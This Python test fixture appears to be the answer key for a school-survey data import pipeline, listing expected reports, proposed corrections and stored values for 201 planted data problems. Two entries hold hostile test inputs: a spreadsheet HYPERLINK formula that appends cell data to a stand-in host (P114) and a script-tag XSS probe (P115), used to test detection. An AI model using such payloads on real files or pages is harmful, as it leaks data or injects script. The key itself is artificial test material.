"""What stands for each of the 201 planted problems: our reports, or what is read instead.

`REPORTED`: planted id -> the kinds of ours that stand for it, all of which must be there, at the
row and column of the key; `COLUMNS` names the column where the key has none or another one,
`SUGGESTED` what is proposed. `QUIET`: the id -> what is read. `TAKEN`: what is stored beside a
report. `ALARMS`: reports that no planted problem asks for, each with the reason why it is right.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from tests.pipeline.import_cases import DIRTY

KEY: list[dict[str, Any]] = json.loads((DIRTY / "key.json").read_text(encoding="utf-8"))["problems"]

# file -> kind, wave, questionnaire, as an officer would name them
FILES: dict[str, tuple[str, str, str]] = {
    "student_googleforms.xlsx": ("survey", "W0", "student"),
    "student_ru_cp1251.csv": ("survey", "W0", "student"),
    "teacher_kobo.xlsx": ("survey", "W0", "teacher"),
    "teacher_kobo_bom.csv": ("survey", "W0", "teacher"),
    "parent_forms_utf16.csv": ("survey", "W0", "parent"),
    "student_spss.sav": ("survey", "W1", "student"),
    "teacher_kobo_wrong_slot.xlsx": ("survey", "W0", "student"),
    "empty.csv": ("survey", "W0", "student"),
    "header_only.csv": ("survey", "W0", "student"),
    "renamed_text.xlsx": ("survey", "W0", "student"),
    "director_IS-03.xlsx": ("checklist", "W0", "director"),
    "desk_data.xlsx": ("desk", "W0", ""),
    "cluster_activity.xlsx": ("activity", "W1", ""),
    "schools.xlsx": ("register", "W0", ""),
}

REPORTED: dict[str, tuple[str, ...]] = {
    "P002": ("unknown_school",),
    "P003": ("misspelt_school",),
    "P004": ("school_written_differently",),
    "P005": ("missing_required_value",),
    "P007": ("unknown_answer_label",),
    "P011": ("out_of_range_code",),
    "P013": ("excel_serial_date",),
    "P015": ("date_outside_wave",),
    "P016": ("date_in_future",),
    "P017": ("no_consent_but_answers_present",),
    "P019": ("consent_blank",),
    "P020": ("straightlining",),
    "P021": ("no_answers",),
    "P023": ("out_of_range_label",),
    "P025": ("formula_cell",),
    "P026": ("formula_cell",),
    "P027": ("duplicate_identical_row",),
    "P028": ("two_answers_in_single_choice",),
    "P029": ("formula_like_text",),
    "P032": ("header_wording_slightly_changed",),
    "P033": ("unknown_extra_column",),
    "P037": ("total_row",),
    "P039": ("misspelt_school",),
    "P040": ("school_written_differently",),
    "P042": ("non_integer_code",),
    "P044": ("label_gender_variant",),
    "P047": ("ragged_row_too_many_fields",),
    "P048": ("ragged_row_too_few_fields",),
    "P050": ("date_in_other_order",),
    "P051": ("date_two_digit_year",),
    "P052": ("missing_expected_column",),
    "P055": ("out_of_range_code",),
    "P056": ("out_of_range_code",),
    "P057": ("text_in_numeric",),
    "P060": ("non_integer_code",),
    "P061": ("out_of_range_code",),
    "P062": ("out_of_range_code",),
    "P063": ("unknown_school",),
    "P065": ("school_written_differently",),
    "P066": ("missing_required_value",),
    "P067": ("duplicate_uuid_different_content",),
    "P068": ("duplicate_uuid_identical_content",),
    "P069": ("unknown_option_in_multi_select",),
    "P070": ("split_column_contradicts_joined_column",),
    "P071": ("joined_empty_but_split_filled",),
    "P072": ("no_consent_but_answers_present",),
    "P073": ("end_before_start",),
    "P074": ("too_fast_submission",),
    "P075": ("too_long_submission",),
    "P076": ("date_outside_wave",),
    "P077": ("other_form_version",),
    "P078": ("straightlining",),
    "P079": ("text_in_numeric",),
    "P080": ("excel_serial_date",),
    "P081": ("impossible_date",),
    "P084": ("unknown_extra_column",),
    "P085": ("duplicate_header",),
    "P086": ("missing_required_column",),
    "P088": ("undeclared_missing_code",),
    "P098": ("duplicate_uuid_identical_content",),
    "P102": ("too_many_options",),
    "P103": ("duplicate_option",),
    "P104": ("unknown_option_in_multi_select",),
    "P105": ("exclusive_option_combined", "unknown_option_in_multi_select"),
    "P106": ("out_of_range_code",),
    "P107": ("text_in_numeric",),
    "P108": ("text_in_numeric",),
    "P110": ("misspelt_label",),
    "P111": ("two_answers_in_single_choice",),
    "P113": ("very_long_cell",),
    "P114": ("formula_like_text",),
    "P116": ("personal_data_in_open_text",),
    "P119": ("no_consent_but_answers_present",),
    "P120": ("unknown_school",),
    "P121": ("school_written_differently",),
    "P123": ("missing_timestamp",),
    "P125": ("duplicate_identical_row",),
    "P126": ("probable_duplicate_answers",),
    "P127": ("school_name_contradicts_code",),
    "P128": ("date_as_text",),
    "P130": ("share_instead_of_band",),
    "P131": ("two_answers_in_single_choice",),
    "P132": ("number_instead_of_band",),
    "P133": ("non_integer_code",),
    "P134": ("misspelt_label",),
    "P135": ("comment_in_answer_cell",),
    "P136": ("answer_in_note_column",),
    "P137": ("formula_cell",),
    "P139": ("missing_value",),
    "P140": ("unknown_question_row",),
    "P145": ("takers_exceed_grade_size",),
    "P146": ("out_of_range_value",),
    "P149": ("takers_exceed_grade_size",),
    "P150": ("misspelt_school",),
    "P151": ("negative_count",),
    "P152": ("zero_probably_missing",),
    "P153": ("cyrillic_letter_in_number",),
    "P154": ("date_outside_wave",),
    "P155": ("duplicate_school_year",),
    "P156": ("total_row",),
    "P157": ("prizes_exceed_participants",),
    "P159": ("misspelt_label",),
    "P160": ("text_in_numeric",),
    "P161": ("non_integer_count",),
    "P162": ("out_of_range_code",),
    "P163": ("undeclared_missing_code",),
    "P165": ("unknown_school",),
    "P166": ("out_of_range_code",),
    "P167": ("non_integer_code",),
    "P168": ("duplicate_respondent_id",),
    "P169": ("date_outside_wave",),
    "P170": ("no_answers",),
    "P171": ("probable_duplicate_answers",),
    "P172": ("missing_expected_column",),
    "P173": ("unknown_extra_column",),
    "P176": ("value_labels_in_reversed_order",),
    "P177": ("duplicate_code",),
    "P178": ("total_does_not_match_parts",),
    "P179": ("negative_count",),
    "P180": ("misspelt_label",),
    "P181": ("unknown_region",),
    "P183": ("missing_code",),
    "P187": ("text_in_numeric",),
    "P189": ("total_row",),
    "P191": ("negative_count",),
    "P192": ("date_before_project",),
    "P193": ("unknown_type",),
    "P194": ("unknown_school",),
    "P195": ("text_in_numeric",),
    "P196": ("implausible_value",),
    "P197": ("duplicate_identical_row",),
    "P198": ("empty_file",),
    "P199": ("no_data_rows",),
    "P200": ("file_type_mismatch",),
    "P201": ("wrong_instrument",),
}

# Where the key names no column, or writes it otherwise than the file does.
COLUMNS: dict[str, str] = {
    "P067": "_uuid",
    "P068": "_uuid",
    "P076": "today",  # the first of the days that lie outside
    "P086": "t_level",  # it is not in the file: the questionnaire's name
    "P098": "_uuid",
    "P155": "Мектептин коду",
}

# What is proposed, as the officer reads it.
SUGGESTED: dict[str, str] = {
    "P003": "IS-01",
    "P004": "IS-05",
    "P013": "2025-10-14 10:30",
    "P032": "s_student_council",
    "P039": "IS-06",
    "P040": "IS-02",
    "P044": "толугу менен макулмун",
    "P050": "2025-10-14 09:35",
    "P051": "2025-10-14 00:00",
    "P065": "IS-07",
    "P080": "2025-10-15 09:36",
    "P107": "10",
    "P110": "1–4-класстар",
    "P121": "IS-13",
    "P128": "2025-10-12",
    "P130": "21 пайыз жана жогору",
    "P132": "16 же андан көп",
    "P134": "макул эмесмин",
    "P135": "макулмун",
    "P136": "кагазда бар",
    "P150": "IS-03",
    "P153": "120.5",
    "P159": "oblast",
    "P178": "960",
    "P180": "chui",
    "P187": "45",
    "P195": "12",
}


@dataclass(frozen=True, slots=True)
class Read:
    """What is read where nothing is reported.

    `how`: answer (code of the item `name`; None: missing), school, text, refused (not an answer
    sheet), nothing (no answer sheet at all), used (the sheet counts), moment (the day and time in
    the cell), column (the header is the item `name`), file (a fact of the format), checklist, desk,
    register (the item or field `name`).
    """

    how: str
    value: Any = None
    name: str = ""


def answer(name: str, value: int | None) -> Read:
    return Read("answer", value, name)


NOTHING, REFUSED = Read("nothing"), Read("refused")
OPEN = "p_open_improve"

QUIET: dict[str, Read] = {
    "P001": Read("file", 3, "header_row"),
    "P006": Read("school", "IS-11"),
    "P008": answer("s_feel_safe", 4),
    "P009": answer("s_respect_everyone", 4),
    "P010": answer("s_bullying_response", 5),
    "P012": answer("s_digital_last_week", 2),
    "P014": Read("moment", "2025-10-14 10:41:00"),
    "P018": REFUSED,
    "P022": answer("s_grade", 9),
    "P024": answer("s_sex", 1),
    "P030": Read("column", name="s_knows_whom_to_ask"),
    "P031": Read("column", name="s_help_available"),
    "P034": NOTHING,
    "P035": NOTHING,
    "P036": NOTHING,
    "P038": Read("file", "cp1251", "encoding"),
    "P041": answer("s_feel_safe", 4),
    "P043": answer("s_handouts", 2),
    "P045": answer("s_like_coming", None),
    "P046": Read("column", name="s_digital_last_week"),
    "P049": NOTHING,
    "P053": NOTHING,
    "P054": NOTHING,
    "P058": answer("t_speak_openly", 4),
    "P059": answer("t_goals_clear", 4),
    "P064": Read("school", "IS-07"),
    "P082": Read("column", name="t_plan_understood"),
    "P083": Read("column", name="t_sex"),
    "P087": Read("file", "start", "first_header"),
    "P089": answer("t_comp_ict", None),
    "P090": answer("t_comp_ict", None),
    "P091": Read("used"),
    "P092": Read("used"),
    "P093": Read("used"),
    "P094": Read("used"),
    "P095": Read("used"),
    "P096": Read("school", "IS-03"),
    "P097": Read("column", name="t_goals_clear"),
    "P099": Read("file", "utf-16", "encoding"),
    "P100": answer("p_strengths", 0b1001),
    "P101": answer("p_strengths", 0b1001),
    "P109": answer("p_recommend", 10),
    "P112": Read("text", "Баары жакшы 👍🏽🏫 рахмат", OPEN),
    "P115": Read("text", "<script>alert('x')</script><b>оңдоо</b>", OPEN),
    "P117": Read("text", "", OPEN),
    "P118": Read("text", "а\tб", OPEN),
    "P122": Read("moment", "2025-10-15 15:00:00"),  # 09:00 UTC in the time of Bishkek
    "P124": answer("p_informed", 5),
    "P129": Read("checklist", 4, "d_boys_girls_equally_safe"),
    "P138": Read("checklist", 2, "d_informs_on_plan"),
    "P141": NOTHING,
    "P142": NOTHING,
    "P143": Read("desk", 3, "first_row"),
    "P144": Read("desk", 118.4, "mean"),
    "P147": Read("desk", "2023", "period"),
    "P148": Read("desk", None, "mean"),
    "P158": Read("desk", "2024/2025", "period"),
    "P164": answer("s_rules_clear", None),
    "P174": Read("column", name="s_recommend"),
    "P175": Read("column", name="s_internet"),
    "P182": Read("register", "«Толкун-Жээк» мектеп-гимназиясы", "name_ky"),
    "P184": Read("register", "rural", "settlement"),
    "P185": Read("register", "ky,uz", "languages"),
    "P186": Read("register", 1240, "n_students"),
    "P188": Read("register", 4.5, "distance_km"),
    "P190": NOTHING,
}

# What is stored beside a report: a proposal that is taken, or a missing answer.
TAKEN: dict[str, Read] = {
    "P003": Read("school", "IS-01"),
    "P004": Read("school", "IS-05"),
    "P039": Read("school", "IS-06"),
    "P040": Read("school", "IS-02"),
    "P044": answer("s_satisfied_learning", 5),
    "P065": Read("school", "IS-07"),
    "P103": answer("p_strengths", 0b1000),
    "P110": answer("p_grade_band", 0),  # g1_4, the first option
    "P121": Read("school", "IS-13"),
    "P007": answer("s_feel_safe", None),
    "P011": answer("s_bullying_response", None),
    "P042": answer("s_teachers_ict", None),
    "P055": answer("t_comp_ict", None),
    "P060": answer("t_ready_to_change", None),
    "P088": answer("t_comp_ict", None),
    "P106": answer("p_recommend", None),
    "P111": answer("p_grade_band", None),
    "P114": Read("text", '=HYPERLINK("http://example.invalid?d="&A1,"бас")', OPEN),
    "P134": Read("checklist", 2, "d_stem_labs"),
    "P135": Read("checklist", 4, "d_teaching_kits"),
    "P136": Read("checklist", 1, "d_strategic_plan"),
    "P137": Read("checklist", 1, "d_plan_updated"),
    "P145": Read("desk", 1204, "takers"),
    "P152": Read("desk", None, "mean"),
    "P153": Read("desk", None, "mean"),
}

# Where we do not follow the key, and why.
DISAGREED: dict[str, str] = {
    "P136": "The key expects code 2; in the questionnaire “кагазда бар” (on paper) has the code 1.",
}

# Values the key writes otherwise: names of options, a time of day, the code of a proposed wording.
SAME: dict[str, str] = {
    "P013": "2025-10-14 10:30",
    "P024": "girl is code 1",
    "P050": "2025-10-14 09:35",
    "P051": "2025-10-14 00:00",
    "P100": "quality is bit 1, discipline bit 8",
    "P101": "quality is bit 1, discipline bit 8",
    "P103": "discipline is bit 8",
    "P110": "g1_4 is code 0",
    "P122": "2025-10-15 15:00",
    "P130": "“21 пайыз жана жогору” is code 4",
    "P132": "“16 же андан көп” is code 2",
}


@dataclass(frozen=True, slots=True)
class Alarm:
    """A report that no planted problem asks for, and why it is right."""

    file: str
    kind: str
    row: int | None
    column: str
    why: str


ALARMS = (
    Alarm(
        "teacher_kobo.xlsx",
        "split_column_contradicts_joined_column",
        14,
        "leadership_support/t_ways_of_support/study_time",
        "P069 put “bonus” where the joined answer named study_time, which its own column still "
        "names.",
    ),
    Alarm(
        "teacher_kobo.xlsx",
        "too_long_submission",
        25,
        "end",
        "The serial number of P080 is a day a week before the end that stands beside it.",
    ),
    Alarm(
        "student_spss.sav",
        "duplicate_respondent_id",
        8,
        "resp_id",
        "P168 gave case 7 the number of case 8: both are named, for either may be the wrong one.",
    ),
    Alarm(
        "desk_data.xlsx",
        "duplicate_school_year",
        4,
        "Мектептин коду",
        "P159 made the republican round of IS-01 a second “oblast” of one school year.",
    ),
    Alarm(
        "schools.xlsx",
        "total_does_not_match_parts",
        12,
        "Окуучулар, бардыгы",
        "P186 wrote 1 240 where the grades add up to 890.",
    ),
    Alarm(
        "schools.xlsx",
        "whole_register",
        None,
        "",
        "A whole register is no list of changes: the schools have their own table in the admin.",
    ),
)
